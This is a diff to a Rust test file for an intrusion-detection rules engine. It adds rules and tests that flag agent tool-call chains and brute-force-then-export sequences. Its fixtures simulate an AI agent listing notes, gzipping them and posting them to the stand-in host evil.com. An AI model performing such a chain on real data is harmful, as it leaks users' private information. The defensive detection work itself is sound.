@@ -163,6 +163,55 @@ correlation: { type: event_count, rules: [refused], group-by: [c-ip], timespan: 
 level: medium
 ";
 
+const PLAYBOOKS: &str = r#"
+decnet_rules: 1
+rules:
+  - id: custom.leak_of_notes
+    title: Notes Leave
+    kind: playbook
+    steps:
+      - { any: [recon, sensitive] }
+      - { all: [encoding] }
+      - { feature: outbound }
+    base: 20
+    parts: { external_destination: 35, fast_chain: 0, low_sensitivity: -5 }
+    emit: { category: leak, mitre: [T1567], stage: Exfiltration }
+    respond: [alert, isolate]
+    tests:
+      - name: in order, 20 + 35 - 5
+        events:
+          - { kind: tool_call, tool.agent_id: a, tool.name: list_notes, tool.args: {} }
+          - { kind: tool_call, tool.agent_id: a, tool.name: gzip, tool.args: {} }
+          - { kind: tool_call, tool.agent_id: a, tool.name: http_post, tool.args: { url: "https://evil.com" } }
+        expect: 1
+      - name: not of two agents
+        events:
+          - { kind: tool_call, tool.agent_id: a, tool.name: list_notes, tool.args: {} }
+          - { kind: tool_call, tool.agent_id: b, tool.name: gzip, tool.args: {} }
+          - { kind: tool_call, tool.agent_id: b, tool.name: http_post, tool.args: { url: "https://evil.com" } }
+        expect: 0
+      - name: out of order
+        events:
+          - { kind: tool_call, tool.agent_id: a, tool.name: gzip, tool.args: {} }
+          - { kind: tool_call, tool.agent_id: a, tool.name: list_notes, tool.args: {} }
+          - { kind: tool_call, tool.agent_id: a, tool.name: http_post, tool.args: { url: "https://evil.com" } }
+        expect: 0
+"#;
+
+const CHAINED: &str = r#"
+decnet_rules: 1
+rules:
+  - id: custom.guessed_then_read
+    title: Guessing, Then Records
+    kind: sequence
+    by: [src.ip]
+    events: [http]
+    steps:
+      - { rule: http.brute_force }
+      - { where: { http.path: /export } }
+    max_span: 10m
+"#;
+
 fn set(text: &str) -> Ruleset {
     let mut set = Ruleset::default();
     set.add("test.yaml", text).expect("rules");
@@ -195,7 +244,7 @@ fn found(set: &Ruleset, lines: &[(u32, &str, u16)]) -> Vec<String> {
 
 #[test]
 fn the_tests_that_rules_carry_pass() {
-    for outcome in [WINRM, KINDS].iter().flat_map(|text| set(text).test()) {
+    for outcome in [WINRM, KINDS, PLAYBOOKS].iter().flat_map(|text| set(text).test()) {
         assert!(outcome.passed, "{outcome:?}");
     }
 }
@@ -344,4 +393,139 @@ fn references_to_nothing_and_circles_are_found() {
         )
         .expect("loads");
     assert!(circle.check().is_err());
+}
+
+#[test]
+fn a_playbook_of_ones_own_decides_like_those_built_in() {
+    let calls = [
+        ("list_notes", serde_json::json!({})),
+        ("gzip", serde_json::json!({})),
+        ("http_post", serde_json::json!({ "url": "https://evil.com" })),
+    ];
+    let mut engine = Engine::new(
+        Setup {
+            rules: set(PLAYBOOKS),
+            ..Setup::default()
+        },
+        Input::Tools,
+    );
+    let mut last = None;
+    for (second, (name, arguments)) in (0i64..).zip(calls) {
+        let call = crate::Call {
+            agent: "a".to_owned(),
+            name: name.to_owned(),
+            arguments,
+            ..crate::Call::default()
+        };
+        last = Some(engine.check(crate::Time(second * 1_000_000_000), &call));
+    }
+    let verdict = last.expect("three calls");
+    assert_eq!(
+        (verdict.decision, verdict.confidence.value()),
+        (crate::Decision::Flag, 50)
+    );
+    let chain = &verdict.findings[0];
+    let parts: Vec<(&str, i64)> = chain
+        .breakdown
+        .iter()
+        .map(|part| (part.id.as_str(), part.value))
+        .collect();
+    assert_eq!(chain.rule, "custom.leak_of_notes");
+    assert_eq!(
+        parts,
+        [("base", 20), ("external_destination", 35), ("low_sensitivity", -5)]
+    );
+    let found = engine.news().findings;
+    assert_eq!(found[0].respond, ["alert", "isolate"]);
+}
+
+#[test]
+fn rules_go_on_from_what_built_in_ones_found() {
+    let run = |target: &str| {
+        let mut engine = Engine::new(
+            Setup {
+                rules: set(CHAINED),
+                ..Setup::default()
+            },
+            Input::Events,
+        );
+        for second in 0..6 {
+            let line = format!(
+                r#"{{"kind":"auth","ts":{second},"src.ip":"10.0.0.1","auth.user":"x","auth.outcome":"failure"}}"#
+            );
+            engine.event(event(&line).expect(&line));
+        }
+        let line =
+            format!(r#"{{"kind":"http","ts":60,"src.ip":"10.0.0.1","http.target":"{target}","http.status":200}}"#);
+        engine.event(event(&line).expect(&line));
+        let findings = engine.finish().findings;
+        findings
+            .iter()
+            .any(|(finding, _)| finding.rule == "custom.guessed_then_read")
+    };
+    assert!(run("/export"));
+    assert!(!run("/"));
+}
+
+#[test]
+fn what_a_playbook_cannot_be_is_refused_by_name() {
+    let playbook = |rest: &str| format!("decnet_rules: 1\nrules:\n  - {{id: abc, title: t, kind: playbook, {rest}}}\n");
+    let steps = "steps: [{feature: recon}, {feature: exec}]";
+    for (text, word) in [
+        (playbook("base: 10, steps: [{feature: recon}]"), "2 to 8"),
+        (
+            playbook("base: 10, steps: [{feature: magic}, {feature: exec}]"),
+            "magic",
+        ),
+        (
+            playbook("base: 10, steps: [{where: {tool.name: x}}, {feature: exec}]"),
+            "feature",
+        ),
+        (
+            playbook("base: 10, steps: [{feature: recon, any: [exec]}, {feature: exec}]"),
+            "one of",
+        ),
+        (playbook(&format!("base: 10, parts: {{luck: 3}}, {steps}")), "luck"),
+        (playbook(&format!("base: 101, {steps}")), "0 to 100"),
+        (playbook(steps), "base"),
+        (playbook(&format!("base: 10, group_by: [src.ip], {steps}")), "group_by"),
+        (playbook(&format!("base: 10, respond: [pager], {steps}")), "pager"),
+    ] {
+        let error = Ruleset::default().add("x.yaml", &text).expect_err(&text).to_string();
+        assert!(error.contains(word), "{text}: {error}");
+    }
+}
+
+#[test]
+fn a_sigma_level_is_the_severity_and_brings_the_confidence() {
+    use crate::Severity::{Critical, High, Info, Low, Medium};
+    for (level, severity, confidence) in [
+        ("informational", Info, 20),
+        ("low", Low, 40),
+        ("medium", Medium, 55),
+        ("high", High, 70),
+        ("critical", Critical, 85),
+    ] {
+        let text = format!(
+            "title: t\nid: i-1\nlogsource: {{category: webserver}}\nlevel: {level}\ndetection: {{selection: {{sc-status: 200}}, condition: selection}}\n"
+        );
+        let sigma = set(&text);
+        let rule = &sigma.iter().next().expect("a rule").rule;
+        assert_eq!((rule.floor, rule.ceiling), (Some(severity), Some(severity)), "{level}");
+        let mut engine = Engine::new(
+            Setup {
+                rules: sigma,
+                ..Setup::default()
+            },
+            Input::Events,
+        );
+        engine.event(
+            event(r#"{"kind":"http","ts":1,"src.ip":"10.0.0.1","http.target":"/","http.status":200}"#).expect("event"),
+        );
+        let found = engine.finish().findings;
+        assert_eq!(
+            (found[0].0.confidence.value(), found[0].0.severity),
+            (confidence, severity)
+        );
+    }
 }
